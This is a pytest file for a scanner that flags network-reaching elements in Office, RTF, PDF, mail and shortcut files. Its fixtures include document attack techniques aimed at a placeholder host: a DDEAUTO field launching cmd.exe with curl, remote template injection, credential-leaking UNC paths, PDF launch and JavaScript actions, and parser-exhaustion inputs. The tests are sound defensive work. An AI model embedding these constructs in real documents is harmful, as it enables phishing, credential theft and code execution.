"""Office documents, RTF, PDF, mails, contacts and calendars."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from gate.models import OutboundFact
from tests.examine.outbound.documents_kit import (
    action,
    annotation,
    macro_stream,
    open_document,
    pdf,
    relationship,
    sheet,
    word,
)
from tests.examine.outbound.outbound_kit import HOST, outbound, outbound_and_gaps, read_with_labels

U = f"https://{HOST}/a"
MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
CODE = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def hosts(data: str | bytes, name: str) -> set[tuple[str, str]]:
    return {(fact.host, fact.reach) for fact in outbound(data, name)}


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath"])
def test_relationships_that_load_are_automatic(kind: str) -> None:
    [fact] = outbound(relationship(kind, U), "settings.xml.rels")
    assert (fact.host, fact.reach, fact.via, fact.line) == (HOST, "automatic", f"relationship {kind}", 3)


@pytest.mark.parametrize(
    ("target", "host"),
    [
        (rf"\\{HOST}\share\t.dotm", HOST),
        (f"file:////{HOST}/share/t.dotm", HOST),
        (f"mhtml:{U}!x-usc:{U}", HOST),
        (f"//{HOST}/t.dotm", HOST),
    ],
)
def test_targets_of_other_forms(target: str, host: str) -> None:
    assert hosts(relationship("attachedTemplate", target), "a.rels") == {(host, "automatic")}


def test_relationships_twins() -> None:
    assert outbound(relationship("image", "media/image1.png", ""), "document.xml.rels") == []
    assert hosts(relationship("hyperlink", U), "document.xml.rels") == {(HOST, "link")}
    assert hosts(relationship("video", U), "slide1.xml.rels") == {(HOST, "conditional")}
    assert hosts(relationship("image", U, ""), "document.xml.rels") == {(HOST, "conditional")}


@pytest.mark.parametrize(
    ("instructions", "reach"),
    [
        ([f' INCLUDEPICTURE "{U}" \\d '], "automatic"),
        ([" INCLUDE", f'PICTURE "{U[:9]}', f'{U[9:]}" \\d '], "automatic"),
        ([f' INCLUDETEXT "{U}" '], "automatic"),
        ([f' DDEAUTO c:\\\\c\x6dd.exe "/k curl {U}" '], "automatic"),
        ([f' HYPERLINK "{U}" '], "link"),
        ([f' QUOTE "{U}" '], "conditional"),
    ],
)
def test_fields_of_word(instructions: list[str], reach: str) -> None:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    assert hosts(word(CODE.format(runs)), "document.xml") == {(HOST, reach)}


def test_simple_fields_and_text() -> None:
    simple = f"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"{U}\" '/></w:p>"
    assert hosts(word(simple), "document.xml") == {(HOST, "automatic")}
    assert hosts(word(f"<w:p><w:r><w:t>see {U}</w:t></w:r></w:p>"), "document.xml") == {(HOST, "text")}
    assert outbound(word("<w:p><w:r><w:t>nothing</w:t></w:r></w:p>"), "document.xml") == []


@pytest.mark.parametrize(
    ("formula", "reach"),
    [
        (f'_xlfn.WEBSERVICE("{U}")', "automatic"),
        (f'IMAGE("{U}")', "automatic"),
        (f"'https://{HOST}/[b.xlsx]S'!A1", "automatic"),
        (f"'\\\\{HOST}\\s\\[b.xlsx]S'!A1", "automatic"),
        (f'HYPERLINK("{U}")', "link"),
    ],
)
def test_formulas(formula: str, reach: str) -> None:
    assert hosts(sheet(formula), "sheet1.xml") == {(HOST, reach)}


def test_formulas_twins() -> None:
    assert hosts(sheet("WEBSERVICE(A1)"), "sheet1.xml") == {("", "opaque")}
    assert outbound(sheet("SUM(A1:A2)"), "sheet1.xml") == []


def test_data_connections() -> None:
    part = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"{}>'
        f'<webPr url="{U}"{{}}/></connection></connections>'
    )
    assert hosts(part.format("", ""), "connections.xml") == {(HOST, "conditional")}
    assert hosts(part.format("", ' refreshOnLoad="1"'), "connections.xml") == {(HOST, "automatic")}


@pytest.mark.parametrize(
    ("body", "reach"),
    [
        (f'<draw:image xlink:href="{U}"/>', "automatic"),
        (f'<text:section-source xlink:href="{U}"/>', "automatic"),
        (f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{U}&quot;)"/>', "automatic"),
        (f'<draw:floating-frame xlink:href="{U}"/>', "conditional"),
        (f'<draw:floating-frame xlink:href="{U}" xlink:actuate="onLoad"/>', "automatic"),
        (f'<script:event-listener xlink:href="{U}"/>', "conditional"),
        (f'<text:a xlink:href="{U}">a</text:a>', "link"),
        (f"<text:p>see {U}</text:p>", "text"),
    ],
)
def test_open_document(body: str, reach: str) -> None:
    assert hosts(open_document(body), "content.xml") == {(HOST, reach)}


def test_parts_that_begin_with_a_long_comment_or_declare_entities() -> None:
    part = relationship("attachedTemplate", U).partition("?>")[2]
    assert (HOST, "automatic") in hosts(f"<!--{'x' * 20_000}-->{part}", "settings.xml.rels")
    entity = f'<!DOCTYPE x [<!ENTITY u "{U}">]>' + relationship("attachedTemplate", "&u;").partition("?>")[2]
    assert (HOST, "automatic") in hosts(entity, "settings.xml.rels")


def test_open_document_twin() -> None:
    assert outbound(open_document('<draw:image xlink:href="Pictures/1.png"/>'), "content.xml") == []


def test_office_part_that_is_not_well_formed_is_a_gap_and_is_searched() -> None:
    facts, gaps = outbound_and_gaps(word(f"<w:p>{U}</w:q>"), "document.xml")
    assert [gap.reason for gap in gaps] == ["corrupt"]
    assert HOST in {fact.host for fact in facts}


def test_a_picture_with_names_of_office_programs_is_read_as_a_picture() -> None:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:o="urn:schemas-microsoft-com:office:office"'
    svg = f'<svg {names}><image href="{U}"/></svg>'
    assert (HOST, "automatic") in hosts(svg, "a.svg")


@pytest.mark.parametrize(
    ("body", "reach"),
    [
        (rf"{{\*\template {U}}}", "automatic"),
        (r"{\*\template " + "".join(rf"\'{ord(letter):02x}" for letter in U) + "}", "automatic"),
        (r"{\*\template " + "".join(rf"\u{ord(letter)} " for letter in U) + "}", "automatic"),
        (rf"{{\*\template \\\\{HOST}\\share\\t.dotm}}", "automatic"),
        (rf'{{\field{{\*\fldinst {{\rtlch INCLUDEPICTURE "{U}" \\d}}}}}}', "automatic"),
        (rf'{{\field{{\*\fldinst HYPERLINK "{U}"}}{{\fldrslt a}}}}', "link"),
        (
            r"{\object\objautlink\objupdate{\*\objdata " + (b"\1\5\0\0" + U.encode("utf-16-le") + b"\0\0").hex() + "}}",
            "automatic",
        ),
        (
            r"{\object\objemb{\*\objdata "
            + (
                bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + b"\x40\0\0\0" + U.encode("utf-16-le") + b"\0\0"
            ).hex()
            + "}}",
            "automatic",
        ),
        (r"{\object\objemb{\*\objdata " + (b"\1\5\0\0" + U.encode() + b"\0").hex() + "}}", "string"),
        (rf"\pard see {U}\par", "text"),
    ],
)
def test_rtf(body: str, reach: str) -> None:
    assert hosts(rf"{{\rtf1\ansi {body}}}", "a.rtf") == {(HOST, reach)}


def test_rtf_twin() -> None:
    assert outbound(r"{\rtf1\ansi{\*\template C:\\t.dotm}{\field{\*\fldinst PAGE}} text \'82\'a0}", "a.rtf") == []


Change = Callable[[pikepdf.Pdf, Dictionary], None]


def opening(its_action: Dictionary) -> Change:
    def change(document: pikepdf.Pdf, _page: Dictionary) -> None:
        document.Root.OpenAction = document.make_indirect(its_action)

    return change


def clicked(its_action: Dictionary) -> Change:
    def change(_document: pikepdf.Pdf, page: Dictionary) -> None:
        page.Annots = annotation(its_action)

    return change


def when_shown(its_action: Dictionary) -> Change:
    def change(document: pikepdf.Pdf, page: Dictionary) -> None:
        page.AA = Dictionary(O=document.make_indirect(its_action))

    return change


def by_name(script: str) -> Change:
    def change(document: pikepdf.Pdf, _page: Dictionary) -> None:
        its_action = document.make_indirect(action("JavaScript", JS=pikepdf.String(script)))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), its_action])))

    return change


def form(text: str) -> Change:
    def change(document: pikepdf.Pdf, _page: Dictionary) -> None:
        document.Root.AcroForm = Dictionary(XFA=document.make_stream(text.encode()))

    return change


def external_stream(document: pikepdf.Pdf, page: Dictionary) -> None:
    stream = document.make_stream(b"")
    stream.F = Dictionary(FS=Name.URL, F=pikepdf.String(U))
    page.Resources = Dictionary(XObject=Dictionary(I=stream))


def pdfs() -> dict[str, tuple[Change, str]]:
    """Return what leads elsewhere in a PDF, made anew each time, as objects belong to one file."""
    file = Dictionary(FS=Name.URL, F=pikepdf.String(U))
    url = pikepdf.String(U)
    return {
        "open action": (opening(action("URI", URI=url)), "automatic"),
        "next of an open action": (opening(action("Named", N=Name.Print, Next=action("URI", URI=url))), "automatic"),
        "additional action": (when_shown(action("URI", URI=url)), "automatic"),
        "launched": (opening(action("Launch", F=pikepdf.String(rf"\\{HOST}\s\a.exe"))), "automatic"),
        "launched by Windows": (
            clicked(action("Launch", Win=Dictionary(F=pikepdf.String(rf"\\{HOST}\a")))),
            "interaction",
        ),
        "form": (clicked(action("SubmitForm", F=file)), "interaction"),
        "form at once": (when_shown(action("SubmitForm", F=file)), "automatic"),
        "other document": (clicked(action("GoToR", F=pikepdf.String(U))), "interaction"),
        "import": (opening(action("ImportData", F=file)), "automatic"),
        "rendition": (clicked(action("Rendition", R=Dictionary(C=Dictionary(D=file)))), "interaction"),
        "link": (clicked(action("URI", URI=url)), "link"),
        "script": (opening(action("JavaScript", JS=pikepdf.String(f"app.launchURL('{U}')"))), "automatic"),
        "script of the document": (by_name(f"this.submitForm('{U}')"), "automatic"),
        "script of a click": (clicked(action("JavaScript", JS=pikepdf.String(f"app.launchURL('{U}')"))), "code"),
        "XFA": (form(f'<template><submit target="{U}"/></template>'), "conditional"),
        "external stream": (external_stream, "automatic"),
    }


@pytest.mark.parametrize("name", pdfs())
@pytest.mark.parametrize("compressed", [True, False])
def test_pdf(name: str, compressed: bool) -> None:  # a parameter of the test
    change, reach = pdfs()[name]
    facts = outbound(pdf(change, compressed=compressed), "a.pdf")
    assert (HOST, reach) in {(fact.host, fact.reach) for fact in facts}
    assert {fact.reach for fact in facts} - {"string", "text"} == {reach}
    assert all(fact.via.startswith("pdf object ") or fact.reach == "string" for fact in facts)


def test_pdf_twins() -> None:
    assert outbound(pdf(lambda _document, _page: None), "a.pdf") == []

    def shown(document: pikepdf.Pdf, page: Dictionary) -> None:
        document.Root.OpenAction = Array([page, Name.Fit])
        page.Annots = annotation(action("URI", URI=pikepdf.String(U)))

    assert hosts(pdf(shown), "a.pdf") == {(HOST, "link")}


def test_pdf_objects_that_are_numbers() -> None:
    number: Any = 1  # the package does not say that it takes numbers

    def change(document: pikepdf.Pdf, page: Dictionary) -> None:
        page.Number = document.make_indirect(number)
        page.Annots = annotation(action("URI", URI=pikepdf.String(U)))

    assert hosts(pdf(change), "a.pdf") == {(HOST, "link")}


def test_damaged_pdf_is_a_gap_and_is_searched() -> None:
    facts, gaps = outbound_and_gaps(b"%PDF-1.7\n1 0 obj <</S/URI/URI(" + U.encode() + b")>>", "a.pdf")
    assert [gap.reason for gap in gaps] == ["corrupt"]
    assert [(fact.host, fact.reach) for fact in facts] == [(HOST, "string")]


def test_pdf_stream_that_grows_beyond_bounds_is_a_gap() -> None:
    data = pdf(form(" " * (9 << 20)))
    assert len(data) < 100_000
    assert [gap.reason for gap in outbound_and_gaps(data, "a.pdf")[1]] == ["too-large"]


def test_streams_of_old_documents() -> None:
    start = b"\xec\xa5\xc1\0" + bytes(60)
    field = start + f'\x13 INCLUDEPICTURE "{U}" \x14x\x15'.encode()
    assert hosts(field, "WordDocument") == {(HOST, "automatic")}
    wide = start + f'\x13 HYPERLINK "{U}" \x14x\x15'.encode("utf-16-le")
    assert hosts(wide, "WordDocument") == {(HOST, "link")}
    assert hosts(start + U.encode() + b"\0", "WordDocument") == {(HOST, "text")}
    moniker = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b") + bytes(20) + U.encode("utf-16-le") + b"\0\0"
    assert hosts(start + moniker, "Workbook") == {(HOST, "link")}
    assert hosts(start + U.encode() + b"\0", "%01Ole") == {(HOST, "automatic")}
    assert hosts(start, "WordDocument") == set()


def test_macros_are_expanded() -> None:
    source = f'Attribute VB_Name = "M"\r\nSub A()\r\nx.Open "GET", "{U}", False\r\nEnd Sub\r\n'
    assert (HOST, "code") in hosts(macro_stream(source), "M")
    assert hosts(macro_stream('Attribute VB_Name = "M"\r\nSub A()\r\nEnd Sub\r\n'), "M") == set()


MAIL = "From: a@b.example\nTo: c@d.example\nSubject: s\n{}\n\nbody https://body.example/\n"


@pytest.mark.parametrize(
    ("header", "reach"),
    [
        (f"Disposition-Notification-To: <x@{HOST}>", "conditional"),
        (f"List-Unsubscribe: <mailto:a@b.example>,\n <{U}>", "interaction"),
        (f"List-Archive: <{U}>", "link"),
        (f"X-Anything: {U}", "text"),
        (f'Content-Type: message/external-body; access-type=URL;\n URL="{U}"', "automatic"),
    ],
)
def test_mail_headers(header: str, reach: str) -> None:
    found = read_with_labels(MAIL.format(header), "a.eml", ("mail",))
    facts = [fact for fact in found if isinstance(fact, OutboundFact)]
    assert (HOST, reach) in {(fact.host, fact.reach) for fact in facts}
    assert {fact.reach for fact in facts} <= {reach, "text"}
    assert "body.example" not in {fact.host for fact in facts}


def test_mail_twin() -> None:
    assert read_with_labels(MAIL.format("X-Mailer: a 1.2"), "a.eml", ("mail",)) == []


def test_contacts_and_calendars() -> None:
    card = f"BEGIN:VCARD\nVERSION:4.0\nPHOTO:{U[:12]}\n {U[12:]}\nURL:https://home.example/\nNOTE:a\nEND:VCARD\n"
    assert hosts(card, "a.vcf") == {(HOST, "conditional"), ("home.example", "link")}
    assert hosts("BEGIN:VCALENDAR\nSUMMARY:a\nEND:VCALENDAR\n", "a.ics") == set()


def shell_link(target: bytes) -> bytes:
    """Return a shell link that holds ``target`` in its string data."""
    return bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60) + target + bytes(8)


def test_shortcuts() -> None:
    assert hosts(shell_link(rf"\\{HOST}\s\a.ico".encode("utf-16-le")), "a.lnk") == {(HOST, "automatic")}
    assert hosts(shell_link(rf"\\{HOST}\s\a.ico".encode()), "a.lnk") == {(HOST, "automatic")}
    assert hosts(shell_link(U.encode("utf-16-le")), "a.lnk") == {(HOST, "interaction")}
    assert hosts(shell_link("C:\\Windows\\a.exe".encode("utf-16-le")), "a.lnk") == set()


def test_shortcuts_with_sections() -> None:
    shortcut = f"[InternetShortcut]\r\nURL={U}\r\nIconFile={{}}\r\n"
    assert hosts(shortcut.format(rf"\\{HOST}\s\a.ico"), "a.url") == {(HOST, "interaction"), (HOST, "automatic")}
    assert hosts(shortcut.format("a.ico"), "a.url") == {(HOST, "interaction")}
    folder = "[.ShellClassInfo]\r\nIconResource={}\r\n"
    assert hosts(folder.format(rf"\\{HOST}\s\a.ico"), "desktop.ini") == {(HOST, "automatic")}
    assert hosts(folder.format("a.ico"), "desktop.ini") == set()


def test_compressed_forms_that_are_not_read_are_gaps() -> None:
    for data, name in ((b"CWS\x0a" + bytes(40), "a.swf"), (b"\0\x10\0\0" + bytes(40), "Document.iwa")):
        assert [gap.reason for gap in outbound_and_gaps(data, name)[1]] == ["unsupported"]
    assert hosts(b"FWS\x0a" + bytes(40) + U.encode() + b"\0", "a.swf") == {(HOST, "string")}


HOSTILE = {
    "shell link": (shell_link(b"\\\\" * 500_000).decode("latin-1"), "a.lnk"),
    "sections": ("[InternetShortcut]\n" + "URL=\n" * 200_000 + "a" * 500_000, "a.url"),
    "groups": ("{\\rtf1" + "{" * 500_000, "a.rtf"),
    "control words": ("{\\rtf1" + "\\a" * 500_000, "a.rtf"),
    "hexadecimal": ("{\\rtf1{\\*\\objdata " + "41" * 1_000_000, "a.rtf"),
    "nested destinations": ("{\\rtf1" + "{\\*\\fldinst a" * 4_000, "a.rtf"),
    "fields": (word("<w:p>" + "<w:instrText>INCLUDEPICTURE</w:instrText>" * 20_000 + "</w:p>"), "document.xml"),
    "elements": ("<w:document xmlns:w='http://schemas.openxmlformats.org/x'>" + "<w:p>" * 200_000, "document.xml"),
    "attributes": (word(f"<w:p w:a='{'https://' * 50_000}'/>"), "document.xml"),
    "formula": (sheet("IMAGE(" * 5_000), "sheet1.xml"),
    "root": ("<" + "xmlns:a " * 1_000, "document.xml"),
    "header": ("From: a\n" * 100_000, "a.eml"),
    "card": ("BEGIN:VCARD\n" + " a\n" * 300_000, "a.vcf"),
    "pdf": ("%PDF-1.7\n" + "1 0 obj <<" * 50_000, "a.pdf"),
    "pdf arrays": ("%PDF-1.7\n1 0 obj " + "[" * 100_000 + "\ntrailer <</Root 1 0 R>>", "a.pdf"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_documents_end_soon(name: str) -> None:
    data, item = HOSTILE[name]
    started = time.process_time()
    outbound_and_gaps(data, item)
    assert time.process_time() - started < 30
